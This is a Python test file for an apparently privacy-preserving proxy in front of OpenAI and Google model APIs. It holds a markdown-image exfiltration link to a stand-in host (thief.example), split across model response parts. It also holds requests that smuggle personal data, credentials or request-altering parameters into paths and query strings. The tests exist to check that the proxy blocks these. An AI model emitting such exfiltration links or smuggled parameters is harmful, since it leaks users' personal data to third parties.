"""What attackers tried, from every side: callers, recipients, models, pages that models read."""

import json
import re
from collections.abc import Callable
from dataclasses import dataclass, field
from typing import Any

import pytest
from aiohttp import web

from tests.end_to_end.conftest import PROMPT, House
from tests.support.heard import Heard

CHAT = "/openai/v1/chat/completions"
RESPONSES = "/openai/v1/responses"
GOOGLE = "/google/v1beta/models/gemini-x:generateContent"
GOOGLE_STREAM = "/google/v1beta/models/gemini-x:streamGenerateContent?alt=sse"
JSON, SSE = "application/json", "text/event-stream"


@dataclass(frozen=True, slots=True)
class Says:
    """A recipient that answers with bytes made of what it heard."""

    make: Callable[[Heard], list[bytes]]
    kind: str = JSON
    status: int = 200
    headers: dict[str, str] = field(default_factory=dict)

    async def give(self, heard: Heard, request: web.Request) -> web.StreamResponse:
        """Answer."""
        standard = {"Content-Type": self.kind}
        response = web.StreamResponse(status=self.status, headers=standard | self.headers)
        await response.prepare(request)
        for piece in self.make(heard):
            await response.write(piece)
        await response.write_eof()
        return response


def _person(heard: Heard) -> str:
    found = re.search(r"PERSON_[0-9a-z]+", heard.body.decode())
    assert found is not None
    return found[0]


def _chat(text: str = PROMPT, **more: Any) -> bytes:
    messages = [{"role": "user", "content": text}]
    return json.dumps({"model": "gpt-x", "messages": messages} | more).encode()


def _google(text: str = PROMPT) -> bytes:
    return json.dumps({"contents": [{"role": "user", "parts": [{"text": text}]}]}).encode()


def _event(tree: dict[str, Any]) -> bytes:
    return b"data: " + json.dumps(tree).encode() + b"\n\n"


# --- a URL that is cut over parts, which SDKs join ---

THIEF = "![](https://thief.example/?q="


@pytest.mark.parametrize(
    "between",
    [
        [],
        [{"text": "", "thoughtSignature": "AAAA"}],
        [{"functionCall": {"name": "f", "args": {}}}],
        [{"text": "hm", "thought": True}],
    ],
    ids=["nothing", "signature", "call", "thought"],
)
@pytest.mark.parametrize("streamed", [False, True])
async def test_google_parts_are_one_text(
    at_home: House, between: list[Any], *, streamed: bool
) -> None:
    def answer(heard: Heard) -> list[bytes]:
        parts = [{"text": THIEF}, *between, {"text": _person(heard) + ")"}]
        tree = {"candidates": [{"content": {"parts": parts}, "finishReason": "STOP"}]}
        return [_event(tree) if streamed else json.dumps(tree).encode()]

    at_home.recipient.script(Says(answer, SSE if streamed else JSON))
    path = GOOGLE_STREAM if streamed else GOOGLE
    status, _, body = await at_home.post(path, _google())
    assert status == 200
    assert b"PERSON_" in body
    assert b"Nadia" not in body


@pytest.mark.parametrize("streamed", [False, True])
async def test_parts_of_a_response_are_one_text(at_home: House, *, streamed: bool) -> None:
    def answer(heard: Heard) -> list[bytes]:
        texts = (THIEF, _person(heard) + ")")
        content = [{"type": "output_text", "text": text, "annotations": []} for text in texts]
        output = [{"type": "message", "role": "assistant", "id": "m", "content": content}]
        tree = {"id": "r", "object": "response", "status": "completed", "output": output}
        if not streamed:
            return [json.dumps(tree).encode()]
        place = {"type": "response.output_text.delta", "output_index": 0, "item_id": "m"}
        deltas = [
            _event(place | {"content_index": index, "delta": text})
            for index, text in enumerate(texts)
        ]
        return [*deltas, _event({"type": "response.completed", "response": tree})]

    at_home.recipient.script(Says(answer, SSE if streamed else JSON))
    asked = {"model": "gpt-x", "input": PROMPT, "stream": streamed}
    status, _, body = await at_home.post(RESPONSES, json.dumps(asked).encode())
    assert status == 200
    assert body.count(b"PERSON_") == (2 if streamed else 1)
    assert b"Nadia" not in body


async def test_parts_of_a_message_are_one_text(at_home: House) -> None:
    def answer(heard: Heard) -> list[bytes]:
        content = [{"type": "text", "text": text} for text in (THIEF, _person(heard) + ")")]
        choice = {"index": 0, "message": {"role": "assistant", "content": content}}
        return [json.dumps({"choices": [choice]}).encode()]

    at_home.recipient.script(Says(answer))
    status, _, body = await at_home.post(CHAT, _chat())
    assert status == 200
    assert b"PERSON_" in body
    assert b"Nadia" not in body


# --- what goes up beside the body ---

MAIL = "nadia.okonkwo@posteo.example"


@pytest.mark.parametrize(
    "path",
    [
        f"/google/v1beta/models/{MAIL}:generateContent",
        "/google/v1beta/models/DE89370400440532013000:generateContent",
        f"/google/v1beta/tunedModels/{MAIL}:generateContent",
        f"/google/v1beta1/projects/{MAIL}/locations/us-central1/endpoints/12:generateContent",
    ],
)
async def test_nothing_personal_stands_in_a_path(at_home: House, path: str) -> None:
    status, _, body = await at_home.post(path, _google("hello"))
    assert status == 403, body
    assert not at_home.recipient.heard


async def test_numbers_of_endpoints_are_no_cards(at_home: House) -> None:
    place = "/google/v1beta1/projects/123456789012/locations/us-central1/endpoints"
    status, _, body = await at_home.post(
        f"{place}/4222222222222222220:generateContent", _google("hello")
    )
    assert status == 200, body


@pytest.mark.parametrize("name", ["Nadia Okonkwo", "gpt\u2028x", "a" * 300])
async def test_a_model_is_called_as_models_are(at_home: House, name: str) -> None:
    status, _, body = await at_home.post(CHAT, _chat("hello", model=name))
    assert (status, json.loads(body)["error"]["code"]) == (400, "invalid_model")
    assert not at_home.recipient.heard


async def test_a_model_in_googles_body_is_looked_at(at_home: House) -> None:
    body = json.loads(_google("hello")) | {"model": f"models/{MAIL}"}
    status, _, _ = await at_home.post(GOOGLE, json.dumps(body).encode())
    assert status == 403
    assert not at_home.recipient.heard


@pytest.mark.parametrize("field", ["reasoning_effort", "service_tier", "verbosity"])
async def test_a_number_in_place_of_a_word_is_looked_at(at_home: House, field: str) -> None:
    status, _, _ = await at_home.post(CHAT, _chat("hello", **{field: 4111111111111111}))
    assert status == 403
    assert not at_home.recipient.heard


@pytest.mark.parametrize(
    "path",
    [
        f"{CHAT}?%6bey=secret",
        f"{CHAT}?api_key=secret",
        f"{CHAT}?a=1&access%5Ftoken=secret",
        f"{GOOGLE}?%24key=secret",
        f"{GOOGLE}?$httpHeaders=Authorization:x",
        f"{GOOGLE}?%24httpMethod=DELETE",
        f"{GOOGLE}?callback=x",
    ],
)
async def test_queries_hold_no_credentials_and_change_no_request(at_home: House, path: str) -> None:
    status, _, _ = await at_home.post(path, _google("hello") if "google" in path else _chat("hi"))
    assert status == 400
    assert not at_home.recipient.heard
